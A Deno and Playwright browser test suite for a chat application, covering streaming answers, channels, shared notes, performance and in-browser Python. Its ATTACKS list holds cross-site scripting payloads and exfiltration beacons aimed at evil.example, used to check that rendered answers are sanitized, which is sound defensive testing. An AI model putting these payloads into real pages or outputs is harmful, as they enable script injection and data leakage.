/// <reference lib="dom" />
/// <reference lib="dom.iterable" />
import assert from "node:assert/strict";
import axe from "axe-core";
import type { Browser, Page } from "playwright-core";
import {
  buildPages,
  findChromium,
  openBrowser,
  picture,
  signUpOnPage,
  visit,
} from "../support/browser.ts";
import { startModelProvider } from "../support/model_provider.ts";
import { say } from "../support/say.ts";
import { startServer } from "../support/server.ts";

const chromium = findChromium();
const LIMIT_MS = 10_000;
const WORDS = Array.from({ length: 300 }, (_, at) => `word${at} `);

/** Attacks that an answer or a message could carry. */
const ATTACKS = [
  "<script>globalThis.owned = 1</script>",
  '<img src=x onerror="globalThis.owned = 2">',
  "[click](javascript:globalThis.owned=3)",
  '<svg><animate onbegin="globalThis.owned=4" attributeName=x dur=1s></svg>',
  '<iframe srcdoc="<script>parent.owned=5</script>"></iframe>',
  '<a href="data:text/html,<script>owned=6</script>">six</a>',
  '<form action="https://evil.example"><input name=q><button>seven</button></form>',
  "![beacon](https://evil.example/pixel.png?said=secret)",
  '<math><mtext><table><mglyph><style><img src onerror="globalThis.owned=8">',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/nine)">nine</div>',
  "<b id=app class=toasts>ten</b><base href=https://evil.example>",
];

async function ask(page: Page, text: string): Promise<void> {
  await page.getByLabel("Message", { exact: true }).fill(text);
  await page.keyboard.press("Enter");
}

const answer = (page: Page) => page.locator(".answer").last();

async function waitForText(page: Page, selector: string, text: string): Promise<void> {
  await page.locator(selector).last().getByText(text).waitFor({ timeout: LIMIT_MS });
}

/** Serious findings of axe, in words. */
async function findings(page: Page): Promise<string[]> {
  // The policy forbids scripts in the page's own document; this one comes by the debugger.
  await page.evaluate(axe.source);
  return await page.evaluate(async () => {
    const { violations } = await (globalThis as unknown as { axe: typeof axe }).axe.run();
    return violations
      .filter(({ impact }) => impact === "serious" || impact === "critical")
      .map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 120)).join(" | ")}`);
  });
}

/** A server with a scripted model, and a browser. */
async function house() {
  await buildPages();
  const stack = new AsyncDisposableStack();
  const provider = stack.use(startModelProvider());
  const app = stack.use(
    await startServer({ OPENAI_API_BASE_URL: provider.baseUrl, OPENAI_API_KEY: "a key" }),
  );
  const browser: Browser = await openBrowser(chromium ?? "");
  stack.defer(() => browser.close());
  return { provider, app, browser, [Symbol.asyncDispose]: () => stack.disposeAsync() };
}

/** The library that drives the browser keeps timers of its own. */
const options = { ignore: chromium === undefined, sanitizeOps: false, sanitizeResources: false };

Deno.test(
  "chats in a browser: sign up, stream, reload in mid-answer, stop, ask again, offline",
  options,
  async (t) => {
    await using place = await house();
    const { provider, app, browser } = place;
    await using visitor = await visit(browser, app.url);
    const { page, context, faults } = visitor;
    page.setDefaultTimeout(LIMIT_MS);

    await t.step("sign up", async () => {
      await page.getByRole("heading", { name: "Welcome back" }).waitFor();
      await picture(page, "sign_in");
      assert.deepEqual(await findings(page), []);
      await signUpOnPage(page, "Ada Lovelace");
      await picture(page, "chat_empty");
      assert.deepEqual(await findings(page), []);
    });

    await t.step("an answer streams", async () => {
      provider.script = { tokens: ["# Tides\n\n", "Twice **a", " day**.\n\n", "- one\n", "- two"] };
      await ask(page, "Why are there tides?");
      await answer(page).getByRole("heading", { name: "Tides" }).waitFor();
      await answer(page).locator("strong", { hasText: "a day" }).waitFor();
      await answer(page).getByText("two").waitFor();
      await page.getByRole("button", { name: "Ask again" }).waitFor();
      await picture(page, "chat");
      assert.deepEqual(await findings(page), []);
    });

    await t.step("T6: a reload in mid-answer goes on, to the byte", async () => {
      provider.script = { tokens: WORDS, paceMs: 8 };
      await ask(page, "Count.");
      await waitForText(page, ".answer", "word40 ");
      await picture(page, "chat_streaming");
      await page.reload();
      await waitForText(page, ".answer", "word60 ");
      await waitForText(page, ".answer", "word299");
      const text = await answer(page).locator(".markdown").innerText();
      assert.equal(text.trim(), WORDS.join("").trim());
    });

    await t.step("stop ends it, and keeps what there is", async () => {
      provider.script = { tokens: WORDS.map((word) => `more-${word}`), paceMs: 20 };
      await ask(page, "Count again.");
      await waitForText(page, ".answer", "more-word9 ");
      await page.getByRole("button", { name: "Stop" }).click();
      await answer(page).getByText("Stopped before its end.").waitFor();
      const text = await answer(page).locator(".markdown").innerText();
      assert.ok(!text.includes("more-word299"));
      await page.reload();
      await answer(page).getByText("Stopped before its end.").waitFor();
    });

    await t.step("asked again, both answers stay", async () => {
      provider.script = { tokens: ["Another", " answer."] };
      await answer(page).getByRole("button", { name: "Ask again" }).click();
      await answer(page).getByText("Another answer.").waitFor();
      await answer(page).getByText("2 / 2").waitFor();
      await answer(page).getByRole("button", { name: "The answer before" }).click();
      await answer(page).getByText("Stopped before its end.").waitFor();
    });

    await t.step("no attack in an answer runs, loads or reshapes the page", async () => {
      provider.script = { tokens: ATTACKS.map((attack) => `${attack}\n\n`) };
      await ask(page, "Attack.");
      await page.locator(".answer footer").last().waitFor();
      await answer(page).getByText("toasts>ten").waitFor();
      await answer(page).getByRole("link", { name: "beacon" }).waitFor();
      const found = await page.evaluate(() => {
        const text = [...document.querySelectorAll(".markdown")].at(-1);
        return {
          owned: Reflect.get(globalThis, "owned"),
          bad: text?.querySelectorAll(
            "script,iframe,img,form,style,svg,base,[style],[id],[onerror]",
          ).length,
          links: [...text?.querySelectorAll("a") ?? []].map((link) => link.protocol),
        };
      });
      assert.equal(found.owned, undefined);
      assert.equal(found.bad, 0);
      assert.ok(
        found.links.every((protocol) => ["https:", "http:", ":"].includes(protocol)),
        String(found.links),
      );
    });

    await t.step("nothing failed, and nothing was complained about", () => {
      // A reload takes back what was on its way.
      assert.deepEqual(faults.filter((fault) => !fault.includes("ERR_ABORTED")), []);
    });

    await t.step("offline, the page opens and shows what was read", async () => {
      await page.evaluate(() => navigator.serviceWorker.ready);
      await page.reload();
      await answer(page).getByText("toasts>ten").waitFor();
      await context.setOffline(true);
      await page.reload();
      await answer(page).getByText("toasts>ten").waitFor();
      await page.getByText("No connection. You can read what is here").waitFor();
      await picture(page, "offline");
      assert.ok(await page.getByRole("button", { name: "Send" }).isDisabled());
      await context.setOffline(false);
      await page.locator(".light.online").waitFor({ state: "attached" });
    });
  },
);

Deno.test(
  "two people in a browser: a channel with threads and unread, a note edited together",
  options,
  async (t) => {
    await using place = await house();
    const { app, browser } = place;
    await using one = await visit(browser, app.url);
    await using two = await visit(browser, app.url, {
      ...{
        colorScheme: "dark",
        viewport: { width: 390, height: 800 },
        hasTouch: true,
        isMobile: true,
      },
    });
    const [ada, bob] = [one.page, two.page];
    for (const page of [ada, bob]) page.setDefaultTimeout(LIMIT_MS);
    await signUpOnPage(ada, "Ada Lovelace");
    await signUpOnPage(bob, "Bob");

    await t.step("a channel reaches everybody, with what is unread", async () => {
      await picture(bob, "phone_dark_chat");
      await ada.getByRole("button", { name: "New channel" }).click();
      await ada.getByRole("textbox", { name: "New channel" }).fill("general");
      await ada.keyboard.press("Enter");
      await ada.getByRole("heading", { name: "general", exact: true }).waitFor();
      await ask(ada, "Hello **everybody**");
      await bob.getByRole("button", { name: "Menu" }).click();
      await bob.locator(".sidebar").getByRole("link", { name: "general" }).waitFor();
      await bob.getByLabel("1 unread").waitFor();
      await picture(bob, "phone_dark_menu");
      await bob.locator(".sidebar").getByRole("link", { name: "general" }).click();
      await bob.locator(".post strong", { hasText: "everybody" }).waitFor();
      await bob.getByLabel("1 unread").waitFor({ state: "detached" });
    });

    await t.step("who types is seen, and replies stand in a thread", async () => {
      await bob.getByLabel("Message", { exact: true }).pressSequentially("Hi");
      await ada.getByText("Bob is typing…").waitFor();
      await bob.getByRole("button", { name: "Send" }).click();
      await ada.locator(".post", { hasText: "Hi" }).waitFor();
      await ada.locator(".post").first().hover();
      await ada.locator(".post").first().getByRole("button", { name: "Reply in a thread" }).click();
      await ada.getByLabel("Reply", { exact: true }).fill("in the thread");
      await ada.keyboard.press("Enter");
      await ada.locator(".thread .post", { hasText: "in the thread" }).waitFor();
      await bob.getByRole("button", { name: "1 reply" }).waitFor();
      await picture(ada, "channel_thread");
      await picture(bob, "phone_dark_channel");
      assert.deepEqual(await findings(ada), []);
      assert.deepEqual(await findings(bob), []);
    });

    await t.step("a note is edited by both, with names at the cursors", async () => {
      await ada.goto(`${app.url}/#/notes`);
      await ada.getByRole("button", { name: "New note" }).click();
      await ada.getByText("Saved", { exact: true }).waitFor();
      await ada.getByRole("button", { name: "Share with everybody here" }).click();
      await ada.getByRole("button", { name: "Stop sharing" }).waitFor();
      await bob.goto(new URL(new URL(ada.url()).hash, app.url).href);
      const [text, other] = [ada.locator(".ProseMirror"), bob.locator(".ProseMirror")];
      await bob.getByText("Saved", { exact: true }).waitFor();
      await text.click();
      await ada.keyboard.type("## Plan\nFirst **things** first");
      await other.getByRole("heading", { name: "Plan" }).waitFor();
      await other.locator("strong", { hasText: "things" }).waitFor();
      await other.click();
      await bob.keyboard.press("Control+End");
      await bob.keyboard.type(" of all");
      await text.getByText("first of all").waitFor();
      await ada.locator(".cursor", { hasText: "Bob" }).waitFor();
      await picture(ada, "note");
      await picture(bob, "phone_dark_note");
      assert.deepEqual(await findings(ada), []);
      assert.deepEqual(await findings(bob), []);
      await ada.getByText("Saved", { exact: true }).waitFor();
      await ada.goto(`${app.url}/#/notes`);
      await ada.locator(".note-list a", { hasText: "First things first of all" }).waitFor();
      await picture(ada, "notes");
      assert.deepEqual(await findings(ada), []);
    });

    await t.step("settings and the live view", async () => {
      await bob.goto(`${app.url}/#/settings`);
      await bob.getByRole("heading", { name: "Look and sound" }).waitFor();
      await picture(bob, "phone_dark_settings");
      assert.deepEqual(await findings(bob), []);
      await ada.goto(`${app.url}/#/admin`);
      await ada.getByText("(answers here)").waitFor();
      await picture(ada, "admin");
      assert.deepEqual(await findings(ada), []);
    });

    await t.step("nothing failed, and nothing was complained about", () => {
      assert.deepEqual(one.faults, []);
      assert.deepEqual(two.faults, []);
    });
  },
);

Deno.test(
  "fast: first paint on a slow processor, and frames while 100 tokens a second stream",
  options,
  async () => {
    await using place = await house();
    const { provider, app, browser } = place;
    await using visitor = await visit(browser, "about:blank");
    const { page, context, faults } = visitor;
    page.setDefaultTimeout(20_000);
    const debug = await context.newCDPSession(page);
    await debug.send("Emulation.setCPUThrottlingRate", { rate: 4 });
    await page.goto(app.url);
    await page.getByRole("heading", { name: "Welcome back" }).waitFor();
    const paint = await page.evaluate(() =>
      performance.getEntriesByName("first-contentful-paint")[0]?.startTime ?? Infinity
    );
    await debug.send("Emulation.setCPUThrottlingRate", { rate: 1 });
    await signUpOnPage(page, "Ada");
    provider.script = {
      tokens: WORDS.map((word, at) =>
        at % 40 === 39 ? `${word}\n\n## Part\n\n` : `*${word.trim()}* `
      ),
      paceMs: 10,
    };
    await ask(page, "Count.");
    await waitForText(page, ".answer", "word20");
    const frames = await page.evaluate(() =>
      new Promise<number>((resolve) => {
        const end = performance.now() + 1_500;
        let count = 0;
        const next = (now: number) => {
          count++;
          if (now < end) requestAnimationFrame(next);
          else resolve(count / 1.5);
        };
        requestAnimationFrame(next);
      })
    );
    await waitForText(page, ".answer", "word299");
    say(`first paint at a quarter of the speed: ${paint.toFixed(0)} ms`);
    say(`frames while 100 tokens a second stream: ${frames.toFixed(0)} a second`);
    assert.ok(paint < 1_000, `first paint after ${paint} ms`);
    assert.ok(frames >= 30, `${frames} frames a second`);
    assert.deepEqual(faults, []);
  },
);

Deno.test(
  "Python runs in the browser: output, result, pictures, and an end to what never ends",
  options,
  async () => {
    await using place = await house();
    const { app, browser } = place;
    await using visitor = await visit(browser, app.url);
    const { page, faults } = visitor;
    page.setDefaultTimeout(60_000);
    await signUpOnPage(page, "Ada");
    const [sessionId] = [...app.sockets.io.sockets.sockets.keys()];
    const userId = app.sockets.io.sockets.sockets.get(sessionId ?? "")?.data.session?.user.id ?? "";
    const run = (code: string) =>
      app.sockets.call({
        userId,
        sessionId: sessionId ?? "",
        event: {
          chat_id: "c",
          message_id: "m",
          data: { type: "execute:python", data: { id: "1", code, session_id: sessionId } },
        },
      }) as Promise<Record<string, unknown>>;
    const result = await run(
      "import sys, math\nprint('hello')\nprint('oh', file=sys.stderr)\n" +
        "open('a.txt', 'w').write('kept')\nmath.factorial(20)",
    );
    assert.deepEqual(result, {
      stdout: "hello\n",
      stderr: "oh\n",
      result: "2432902008176640000",
      files: [{ name: "a.txt", type: "text/plain", url: `data:text/plain;base64,${btoa("kept")}` }],
    });
    const failed = await run("1 / 0");
    assert.match(String(failed.stderr), /ZeroDivisionError/);
    assert.deepEqual(faults, []);
  },
);
